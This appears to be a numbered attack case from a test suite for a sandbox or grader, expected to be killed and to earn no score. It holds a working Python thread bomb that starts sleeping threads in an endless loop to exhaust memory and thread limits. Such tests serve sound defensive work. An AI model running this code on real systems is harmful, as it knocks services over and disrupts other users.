# attack: 3
# does: threads without end
# run: killed or out_of_memory
# earns: 0
# says: more than
import threading
import time

threading.stack_size(64 * 1024)
while True:
    try:
        threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
    except RuntimeError:
        time.sleep(0.01)
